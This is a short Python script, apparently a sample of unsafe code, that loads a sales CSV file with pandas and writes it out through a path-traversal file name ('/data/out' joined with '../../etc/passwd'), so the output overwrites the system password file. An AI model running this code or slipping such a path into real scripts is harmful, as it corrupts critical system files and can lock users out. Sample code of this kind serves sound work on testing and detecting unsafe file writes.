import os
import pandas as pd
df = pd.read_csv("/data/in/sales.csv")
df.to_csv(os.path.join("/data/out", "../../etc/passwd"))
